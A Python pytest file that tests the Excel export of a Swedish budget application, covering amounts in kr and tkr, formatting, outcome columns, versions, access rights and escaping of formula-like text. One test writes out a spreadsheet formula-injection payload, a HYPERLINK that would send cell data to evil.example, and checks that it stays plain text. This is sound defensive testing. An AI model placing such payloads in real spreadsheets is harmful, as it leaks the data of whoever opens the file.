"""The budget table as an Excel file, read back with openpyxl."""

import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from budget.excel import NUMBER_FORMAT, escape
from budget.models import Budget, Budgetrad
from budget.tables import budget_table
from tests.budget.test_budgettabell import build_seed_2026
from tests.factories import BudgetradFactory, RekvisitionFactory

Group = Budgetrad.Group
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def seed_budget(forbund, heby, tierp, region):
    return build_seed_2026(forbund, {"Heby": heby, "Tierp": tierp, "Region Uppsala": region})


def _sheet(response):
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    return load_workbook(BytesIO(response.content)).active


def _rows(ws):
    """Label → the row's values from the third column on."""
    return {
        row[0]: list(row[2:])
        for row in ws.iter_rows(min_row=6, values_only=True)
        if row[0] is not None
    }


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+46 18 123", "'+46 18 123"),
        ("-518", "'-518"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Förvaltning", "Förvaltning"),
        ("S:a intäkter = summan", "S:a intäkter = summan"),
        ("", ""),
        (Decimal("-5"), Decimal("-5")),
        (None, None),
    ],
)
def test_escape(value, escaped):
    assert escape(value) == escaped


def test_kansli_downloads_the_seed_table_in_tkr(client, kansli, seed_budget):
    client.force_login(kansli)

    response = client.get("/uppsala/budget/2026/excel/")

    assert "budget-uppsala-2026-v1-tkr.xlsx" in response["Content-Disposition"]
    ws = _sheet(response)
    assert ws["A1"].value == "Budget 2026"
    assert ws["A1"].font.bold
    assert ws["A2"].value == "Samordningsförbundet Uppsala län"
    assert ws["A3"].value == "Utkast, version 1. Belopp i tkr."
    assert [c.value for c in ws[5]] == [None, "Insatsägare", "Budget 2026"]
    rows = _rows(ws)
    assert rows["Medlemsavgifter"] == [23_490]
    assert rows["S:a intäkter"] == [24_180]
    assert rows["S:a kostnader"] == [27_150]
    assert rows["Årets beräknade resultat"] == [-2_970]
    assert rows["Över-/underskott från tidigare år"] == [4_495]
    assert rows["Prognostiserat underskott 2025"] == [-518]
    assert rows["Kvarvarande beslutsutrymme"] == [1_007]
    assert rows["Växtkraft"] == [2_753]
    assert rows["Eget kapital vid årets slut"] == [1_007]
    assert rows["Tak för eget kapital (20 % av medlemsavgifterna)"] == [4_698]
    owners = {r[0]: r[1] for r in ws.iter_rows(min_row=6, values_only=True)}
    assert owners["Växtkraft"] == "Enköping"
    # The same rows as the page, in the same order.
    table = budget_table(seed_budget)
    assert [
        r[:3] for r in ws.iter_rows(min_row=6, max_row=5 + len(table.rows), values_only=True)
    ] == [
        (r.label, r.owner or None, None if r.amount is None else int(r.amount / 1000))
        for r in table.rows
    ]


def test_numbers_are_numbers_with_a_format_and_bold_totals(client, kansli, seed_budget):
    client.force_login(kansli)

    ws = _sheet(client.get("/uppsala/budget/2026/excel/"))

    cells = {row[0].value: row for row in ws.iter_rows(min_row=6) if row[0].value}
    total = cells["S:a kostnader"]
    assert isinstance(total[2].value, int)
    assert total[2].number_format == NUMBER_FORMAT
    assert total[0].font.bold and total[2].font.bold
    assert not cells["Förvaltning"][0].font.bold
    assert cells["Växtkraft"][0].alignment.indent == 4
    assert ws.column_dimensions["A"].width >= 40
    assert ws.column_dimensions["C"].width >= 12


def test_kronor_on_request_and_for_a_kr_forbund(client, kansli, forbund, seed_budget):
    client.force_login(kansli)

    ws = _sheet(client.get("/uppsala/budget/2026/excel/?enhet=kr"))
    assert ws["A3"].value == "Utkast, version 1. Belopp i kr."
    assert _rows(ws)["S:a kostnader"] == [27_150_000]

    forbund.display_unit = "kr"
    forbund.save()
    ws = _sheet(client.get("/uppsala/budget/2026/excel/"))
    assert _rows(ws)["Kvarvarande beslutsutrymme"] == [1_007_000]
    ws = _sheet(client.get("/uppsala/budget/2026/excel/?enhet=tkr"))
    assert _rows(ws)["Kvarvarande beslutsutrymme"] == [1_007]
    ws = _sheet(client.get("/uppsala/budget/2026/excel/?enhet=mnkr"))
    assert _rows(ws)["Kvarvarande beslutsutrymme"] == [1_007_000]


def test_a_line_named_like_a_formula_stays_text(client, kansli, seed_budget):
    BudgetradFactory(
        budget=seed_budget,
        group=Group.FORVALTNING,
        name='=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
        amount=Decimal("1000"),
        order=45,
    )
    client.force_login(kansli)

    ws = _sheet(client.get("/uppsala/budget/2026/excel/"))

    cell = next(c for c in ws["A"] if c.value and "HYPERLINK" in str(c.value))
    assert cell.value == '\'=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    assert cell.data_type == "s"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_outcome_and_forecast_columns_when_there_is_outcome(client, kansli, seed_budget):
    vaxtkraft = seed_budget.forbund.insatser.get(name="Växtkraft")
    RekvisitionFactory(
        insats=vaxtkraft, period_end=datetime.date(2026, 6, 30), amount=Decimal("1300000")
    )
    seed_budget.rader.filter(name="Förvaltning").update(forecast=Decimal("4300000"))
    client.force_login(kansli)

    ws = _sheet(client.get("/uppsala/budget/2026/excel/"))

    assert [c.value for c in ws[5]] == [None, "Insatsägare", "Budget 2026", "Utfall", "Prognos"]
    rows = _rows(ws)
    assert rows["Växtkraft"] == [2_753, 1_300, 2_753]
    assert rows["Förvaltning"] == [4_550, None, 4_300]
    assert rows["S:a kostnader"] == [27_150, 1_300, 26_900]
    assert ws.cell(7, 4).number_format == NUMBER_FORMAT


def test_outcome_columns_on_request(client, kansli, seed_budget):
    client.force_login(kansli)

    plain = _sheet(client.get("/uppsala/budget/2026/excel/"))
    wide = _sheet(client.get("/uppsala/budget/2026/excel/?utfall=1"))

    assert plain.max_column == 3
    assert [c.value for c in wide[5]][3:] == ["Utfall", "Prognos"]


def test_an_older_version_on_request(client, kansli, forbund, seed_budget):
    seed_budget.status = Budget.Status.FASTSTALLD
    seed_budget.save()
    newer = seed_budget.new_version(by=kansli)
    newer.rader.filter(name="Förvaltning").update(amount=Decimal("5000000"))
    client.force_login(kansli)

    latest = _sheet(client.get("/uppsala/budget/2026/excel/"))
    older = _sheet(client.get("/uppsala/budget/2026/excel/?version=1"))

    assert latest["A3"].value == "Utkast, version 2. Belopp i tkr."
    assert _rows(latest)["Förvaltning"] == [5_000]
    assert older["A3"].value == "Fastställd, version 1. Belopp i tkr."
    assert _rows(older)["Förvaltning"] == [4_550]


@pytest.mark.parametrize("role", ["kansli", "styrelse", "revisor"])
def test_readers_download(client, roles, role, seed_budget):
    client.force_login(roles[role])

    assert _sheet(client.get("/uppsala/budget/2026/excel/"))["A1"].value == "Budget 2026"


def test_insatsagare_downloads_only_a_published_budget(client, agare, seed_budget):
    client.force_login(agare)
    assert client.get("/uppsala/budget/2026/excel/").status_code == 403

    seed_budget.status = Budget.Status.PUBLICERAD
    seed_budget.save()

    ws = _sheet(client.get("/uppsala/budget/2026/excel/"))
    assert ws["A3"].value == "Publicerad, version 1. Belopp i tkr."


def test_outsiders_and_missing_years_get_404(client, outsider, kansli, seed_budget):
    client.force_login(outsider)
    assert client.get("/uppsala/budget/2026/excel/").status_code == 404
    client.force_login(kansli)
    assert client.get("/uppsala/budget/2031/excel/").status_code == 404
